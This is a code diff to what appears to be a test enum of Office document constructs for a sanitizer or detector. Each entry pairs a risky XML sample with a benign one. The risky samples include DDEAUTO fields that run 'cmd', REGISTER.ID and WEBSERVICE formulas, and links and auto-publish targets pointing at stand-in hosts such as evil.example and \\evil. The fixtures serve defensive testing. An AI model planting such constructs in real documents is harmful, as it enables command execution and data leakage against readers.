@@ -5,8 +5,7 @@ enum OfficeConstruct {
     FIELD(field("instrText", " DDEAUTO cmd "), field("instrText", " PAGE ")),
     FIELD_IN_PIECES(field("instrText", " D", "DE", "AUTO", " cmd "), field("instrText", " P", "AG", "E")),
     DELETED_FIELD(field("delInstrText", " DD", "E cmd x"), field("delInstrText", " DA", "TE x")),
-    FIELD_WITHOUT_MARKS(
-            "<w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r>", "<w:r><w:t> DDEAUTO cmd </w:t></w:r>"),
+    FIELD_WITHOUT_MARKS("<w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r>", "<w:r><w:t> DDEAUTO cmd </w:t></w:r>"),
     FIELD_OF_FIELDS(
             begun(field("instrText", "QUOTE 68 68 69") + "<w:instrText> cmd</w:instrText>"),
             begun("<w:instrText>IF 1 = 1 </w:instrText>" + field("instrText", "PAGE"))),
@@ -53,7 +52,7 @@ enum OfficeConstruct {
             "<xm:f xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>_xlfn.RTD(1,2)</xm:f>", "<x:g/>"),
     COLUMN_FORMULA(
             "<x:calculatedColumnFormula>REGISTER.ID(1)</x:calculatedColumnFormula>",
-            "<x:calculatedColumnFormula>[a]</x:calculatedColumnFormula>"),
+            "<x:calculatedColumnFormula>SUM(A1)</x:calculatedColumnFormula>"),
     TEXT_LINK("<a:sp textlink='WEBSERVICE(A1)'/>", "<a:sp textlink='S!$A$1'/>"),
     CONTROL_FORMULA("<x:control fmlaLink='&#39;\\\\evil\\[x]S&#39;!A1'/>", "<x:control fmlaLink='$A$1'/>"),
     CHART_FORMULA("<c:f>'http://evil.example/[a.xlsx]S'!A1</c:f>", "<c:f>S!$A$1</c:f>"),
@@ -83,6 +82,9 @@ enum OfficeConstruct {
     BINDING("<x:DataBinding FileBindingName='https://evil.example/x'/>", "<x:DataBinding DataBindingName='x'/>"),
     SCHEMA("<w:schema w:manifestLocation='https://evil.example/'/>", "<w:schema w:uri='https://evil.example/'/>"),
     MERGE("<w:connectString w:val='Provider=x'/>", "<w:mainDocumentType w:val='Provider=x'/>"),
+    PUBLISHED(
+            "<x:webPublishItem destinationFile='\\\\evil\\x.htm' autoRepublish='1'/>",
+            "<x:webPublishItem destinationFile='C:\\x.htm'/>"),
     VIDEO("<wp15:webVideoPr xmlns:wp15='x' embeddedHtml='x'/>", "<wp15:other xmlns:wp15='x' h='x'/>"),
     EXTENSION("<we:webextension xmlns:we='x'/>", "<we:taskpane xmlns:we='x'/>"),
     ACTION(
